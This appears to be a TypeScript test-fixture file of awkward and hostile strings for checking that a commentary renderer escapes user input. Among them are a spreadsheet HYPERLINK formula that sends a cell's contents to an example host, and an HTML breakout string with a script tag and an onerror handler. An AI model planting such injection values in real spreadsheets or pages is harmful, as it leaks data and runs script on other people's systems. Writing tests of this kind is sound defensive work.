// Text that people paste into a commentary and that breaks what prints it carelessly.

/** Runs as a formula where a spreadsheet takes it for one. */
export const formulaLike = '=HYPERLINK("https://example.org/?"&A1,"Press here")';

/** Ends a table, an attribute or a comment early, and then runs, where it is not escaped. */
export const markupLike =
  '</td></table></style></svg>--><script>document.title="taken"</script><img src=x onerror="document.title=1"> & "both" \'kinds\' ]]> <!-- &amp; &#60;';

/** Hebrew and Arabic, an override that would turn what follows it round, and an isolate never ended. */
export const rightToLeft = 'שלום עולם 93.1% – مرحبا \u202eturned round\u202c \u2067never ended';

/** Of several code points each: a joined family, a skin tone, a flag made of tags. */
export const emoji = 'Good 👩🏽‍🚒 news 👨‍👩‍👧‍👦 from 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ✅';

/** No place to break a line at. */
export const unbroken = 'Wastecollection'.repeat(34).slice(0, 500);

/** What XML has no way to hold, and half of a pair: printed as the mark for what cannot be shown. */
export const unprintable = 'Bell\u0007 null\u0000 feed\u000c half\ud83d end\uffff';

/** Three lines, a tab and spaces that matter. */
export const severalLines = 'First line.\nSecond line,\twith a tab.\r\n  Third line.';

export const hostileTexts: readonly string[] = [
  formulaLike,
  markupLike,
  rightToLeft,
  emoji,
  unbroken,
  unprintable,
  severalLines,
];
